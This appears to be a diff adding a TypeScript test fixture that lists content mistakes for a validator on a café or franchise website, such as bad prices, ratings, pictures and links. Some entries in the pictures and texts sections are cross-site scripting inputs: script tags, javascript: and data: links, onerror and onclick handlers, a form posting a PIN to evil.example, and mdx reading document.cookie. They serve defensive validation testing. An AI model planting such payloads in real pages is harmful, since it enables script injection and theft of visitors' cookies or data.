@@ -1,0 +1,229 @@
+import sharp from 'sharp';
+import type { Folder } from './folder';
+
+export interface Mistake {
+  readonly name: string;
+  readonly make: (folder: Folder) => void | Promise<void>;
+}
+
+const field = (name: string) => new RegExp(`^${name}:.*$`, 'm');
+const edit = (name: string, where: string, place: string | RegExp, by: string): Mistake => ({
+  name,
+  make: (folder) => folder.edit(folder.entry(where), place, by),
+});
+const setting = (name: string, place: string | RegExp, by: string): Mistake => ({
+  name,
+  make: (folder) => folder.edit('site/index.md', place, by),
+});
+const menu = (name: string, place: string, by: string) => edit(name, 'menu', field(place), by);
+const review = (name: string, place: string | RegExp, by: string) => edit(name, 'reviews', place, by);
+const answer = (name: string, words: string): Mistake => edit(name, 'questions', /\n\n(.*\n)$/, `\n\n${words}\n`);
+const story = (name: string, words: string): Mistake => ({
+  name,
+  make: (folder) => folder.edit('story/index.mdx', /\n---\n\n/, `\n---\n\n${words}\n\n`),
+});
+const flat = (width: number) =>
+  sharp({ create: { width, height: 60, channels: 3, background: '#0c3a2c' } })
+    .webp()
+    .toBuffer();
+
+/** Every way in which an editor may break the content, each by itself. */
+export const MISTAKES: readonly Mistake[] = [
+  // Fields
+  menu('price in words', 'price', 'price: forty'),
+  menu('price with the sign', 'price', 'price: ₹40'),
+  menu('price in quotes', 'price', 'price: "40"'),
+  menu('price with paise', 'price', 'price: 40.50'),
+  menu('negative price', 'price', 'price: -5'),
+  menu('price left empty', 'price', 'price:'),
+  edit('price missing', 'menu', /^price:.*\n/m, ''),
+  menu('rating above five', 'rating', 'rating: 7'),
+  menu('rating below nought', 'rating', 'rating: -0.5'),
+  menu('rating with two decimals', 'rating', 'rating: 4.55'),
+  menu('wrong category', 'category', 'category: speical'),
+  menu('unknown key', 'order', 'draf: true'),
+  menu('misspelt key of a needed field', 'name', 'nmae: Boba'),
+  menu('draft in words', 'order', 'draft: yes please'),
+  menu('number for a name', 'name', 'name: 2026'),
+  menu('list for a name', 'name', 'name: [Boba, Tea]'),
+  menu('name too long', 'name', `name: ${'very '.repeat(13)}long`),
+  menu('order with a fraction', 'order', 'order: 1.5'),
+  menu('date that does not exist', 'order', 'publishOn: 2027-02-30'),
+  menu('date in words', 'order', 'publishOn: next Monday'),
+  review('score above five', field('food'), 'food: 6'),
+  review('score of nought', field('service'), 'service: 0'),
+  review('half a score', field('overall'), 'overall: 4.5'),
+  review('avatar without https', field('avatar'), 'avatar: http://i.pravatar.cc/144?img=5'),
+  review('avatar from a host not allowed', field('avatar'), 'avatar: https://pictures.example.net/me.jpg'),
+  review('avatar that is no address', field('avatar'), 'avatar: me.jpg'),
+  review('review without words', /\n---\n[\s\S]*$/, '\n---\n'),
+  edit('words where none are shown', 'menu', /$/, '\nCold and sweet.\n'),
+  setting('phone malformed', field('phone'), 'phone: 98765-43210'),
+  setting('phone without quotes and blanks', field('phone'), 'phone: 9876543210'),
+  setting('e-mail malformed', field('email'), 'email: hello@manacaud'),
+  setting('social link without https', /instagram: .*/, 'instagram: www.instagram.com/manacaud'),
+  setting('time that does not exist', /opens: .*/, "opens: '25:00'"),
+  {
+    name: 'licence with too few digits',
+    make: (folder) => {
+      const text = folder.read('site/index.md').replace(/^fssai:.*\n/m, '');
+      folder.write(
+        'site/index.md',
+        text.replace(field('themeColour'), (line) => `${line}\nfssai: '123'`),
+      );
+    },
+  },
+  setting('PIN code without quotes', /postalCode: .*/, 'postalCode: 695009'),
+  setting('day that does not exist', /- tuesday/, '- teusday'),
+  setting('day that stands twice', /- tuesday/, '- monday'),
+  setting('unknown key in a group', /city: .*/, 'town: Trivandrum'),
+  {
+    name: 'description of a page too short',
+    make: (folder) => folder.edit('pages/about.md', field('description'), 'description: Our story.'),
+  },
+  {
+    name: 'fixed sentence changed',
+    make: (folder) => folder.edit('pages/products.md', field('empty'), 'empty: Nothing here.'),
+  },
+
+  // Colours and figures
+  edit('word for a colour', 'investment', field('colour'), 'colour: yellowish'),
+  edit('colour without quotes', 'investment', field('colour'), 'colour: #f2b233'),
+  edit('colour without contrast', 'investment', field('colour'), "colour: '#808080'"),
+  {
+    name: 'colour of another slice',
+    make: (folder) => {
+      const colour = /^colour: .*$/m.exec(folder.read(folder.entry('investment')))?.[0] ?? '';
+      folder.edit(folder.entry('investment', 1), field('colour'), colour);
+    },
+  },
+  setting('theme colour too light', field('themeColour'), "themeColour: '#f2b233'"),
+  edit('costs beyond the estimate', 'investment', field('value'), 'value: 9000000'),
+  edit('estimate upside down', 'franchise-model', field('estimateFrom'), 'estimateFrom: 9.5'),
+
+  // The fields as a whole
+  menu('colon inside a value', 'name', 'name: Boba: the best'),
+  menu('apostrophe inside single quotes', 'name', "name: 'Amma's milk'"),
+  menu('quotes inside double quotes', 'description', 'description: "The "real" milk tea"'),
+  menu('quote never closed', 'description', 'description: "Milk tea with pearls'),
+  menu('value that begins with an at sign', 'description', 'description: @manacaud on every glass'),
+  menu('value that begins with a star', 'description', 'description: *Cold* milk tea'),
+  menu('tab for indentation', 'order', '\torder: 20'),
+  menu('blanks before a field', 'order', '  order: 20'),
+  menu('no blank after the colon', 'price', 'price:40'),
+  menu('line without a colon', 'price', 'price 40'),
+  menu('field written twice', 'order', 'price: 45'),
+  { name: 'second dashes missing', make: (folder) => folder.edit(folder.entry('reviews'), /\n---\n\n/, '\n\n') },
+  { name: 'first dashes missing', make: (folder) => folder.edit(folder.entry('reviews'), /^---\n/, '') },
+  { name: 'empty file', make: (folder) => folder.write(folder.entry('reviews'), '') },
+  {
+    name: 'list without fields',
+    make: (folder) => folder.write(folder.entry('reviews'), '---\n- food\n---\n\nGood.\n'),
+  },
+
+  // Pictures
+  menu('picture missing', 'image', 'image: ./bubble.svg'),
+  {
+    name: 'picture in the wrong case',
+    make: (folder) => {
+      const entry = folder.entry('menu');
+      const name = folder.picture(entry).split('/').at(-1) ?? '';
+      folder.edit(entry, field('image'), `image: ./${name.charAt(0).toUpperCase()}${name.slice(1)}`);
+    },
+  },
+  menu('picture on another site', 'image', 'image: https://example.com/boba.jpg'),
+  menu('picture without ./', 'image', 'image: boba.svg'),
+  menu('picture outside the content', 'image', 'image: ../../../public/boba.svg'),
+  {
+    name: 'picture too small',
+    make: async (folder) => folder.write(folder.picture(folder.entry('gallery')), await flat(900)),
+  },
+  {
+    name: 'picture that is none',
+    make: (folder) => folder.write(folder.picture(folder.entry('gallery')), 'These are words.'),
+  },
+  {
+    name: 'drawing with a script',
+    make: (folder) => {
+      const drawing = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
+      folder.write(folder.picture(folder.entry('menu')), drawing);
+    },
+  },
+  {
+    name: 'picture of a telephone',
+    make: (folder) => {
+      const entry = folder.entry('gallery');
+      folder.edit(entry, field('image'), 'image: ./IMG_0042.HEIC');
+      folder.rename(folder.picture(entry), `${entry.replace('index.md', '')}IMG_0042.HEIC`);
+    },
+  },
+  { name: 'picture that nobody uses', make: async (folder) => folder.write('menu/left-over.webp', await flat(640)) },
+  menu('alternative text empty', 'imageAlt', 'imageAlt: ""'),
+  menu('alternative text is a file name', 'imageAlt', 'imageAlt: IMG_2041.jpg'),
+  {
+    name: 'alternative text is the name of the picture',
+    make: (folder) => {
+      const entry = folder.entry('gallery');
+      const name = (folder.picture(entry).split('/').at(-1) ?? '').replace(/\.\w+$/, '').replaceAll('-', ' ');
+      folder.edit(entry, field('alt'), `alt: ${name}`);
+    },
+  },
+  answer('picture in a text without words', 'Look: ![](./space.webp)'),
+
+  // Between files
+  {
+    name: 'name of another entry',
+    make: (folder) => {
+      const name = /^name: (.*)$/m.exec(folder.read(folder.entry('menu')))?.[1] ?? '';
+      folder.edit(folder.entry('menu', 1), field('name'), `name: ${name.toUpperCase()}`);
+    },
+  },
+  {
+    name: 'title of another page',
+    make: (folder) => {
+      const title = /^title: .*$/m.exec(folder.read('pages/about.md'))?.[0] ?? '';
+      folder.edit('pages/contact.md', field('title'), title);
+    },
+  },
+  edit('reference to nothing', 'gallery', field('group'), 'group: franchise-store'),
+  edit('placeholder that is no field', 'menu', /\n---\n$/, '\nplaceholders:\n  - pirce\n---\n'),
+  { name: 'empty collection', make: (folder) => folder.remove('steps') },
+  { name: 'single file missing', make: (folder) => folder.remove('site') },
+  { name: 'entry in the wrong place', make: (folder) => folder.rename(folder.entry('menu'), 'menu/boba.md') },
+  { name: 'folder that is no collection', make: (folder) => folder.rename('steps', 'stpes') },
+  { name: 'file of another program', make: (folder) => folder.write('menu/prices.xlsx', 'x') },
+  {
+    name: 'blanks in a file name',
+    make: (folder) => folder.rename(folder.entry('questions'), 'questions/how much space.md'),
+  },
+
+  // Texts
+  answer('link to no page', 'Ask [us](/contcat) first.'),
+  answer('link with a slash at its end', 'Ask [us](/contact/) first.'),
+  answer('link to no place on a page', 'Ask [us](/contact#nowhere-at-all) first.'),
+  answer('link without a slash', 'Ask [us](contact) first.'),
+  answer('link without https', 'See [them](http://fssai.gov.in).'),
+  answer('link to a site without https://', 'See [them](www.fssai.gov.in).'),
+  answer('link without an address', 'Ask [us]() first.'),
+  answer('link without words', 'Ask [](/contact) first.'),
+  answer('link that runs script', 'Ask [us](javascript:alert(1)) first.'),
+  answer('link that hides its script', 'Ask [us](&#106;ava\\script:alert(1)) or [them](data:text/html,x).'),
+  answer('link to no e-mail address', 'Write [us](mailto:hello) first.'),
+  answer('script', 'Hello\n\n<script>alert(1)</script>'),
+  answer('script that is never closed', 'Hello\n\n<script src=//evil.example'),
+  answer('frame', '<iframe src="https://evil.example"></iframe>'),
+  answer('style', '<style>body{display:none}</style>'),
+  answer('form', 'Hello <form action="https://evil.example"><input name="pin"></form>'),
+  answer('tag that runs script', 'Hello <img src=x onerror=alert(1)>'),
+  answer('harmless tag that runs script', 'Hello <b onclick="alert(1)">you</b>'),
+  answer('comment that is never closed', 'Hello\n\n<!-- for later'),
+  answer('second title of the page', '# How much space'),
+  story('brace', 'The year was {year} or so.'),
+  story('brace never closed', 'Cold milk { and syrup.'),
+  story('tag never closed', 'Cold <b>milk and syrup.'),
+  story('sign taken for a tag', 'For <40 rupees.'),
+  story('part that does not exist', 'Look: <Glass />'),
+  story('script in .mdx', '<script>alert(1)</script>'),
+  story('code in a tag', 'Cold <b title={document.cookie}>milk</b>.'),
+  story('handler in .mdx', 'Cold <b onClick="steal()">milk</b>.'),
+];
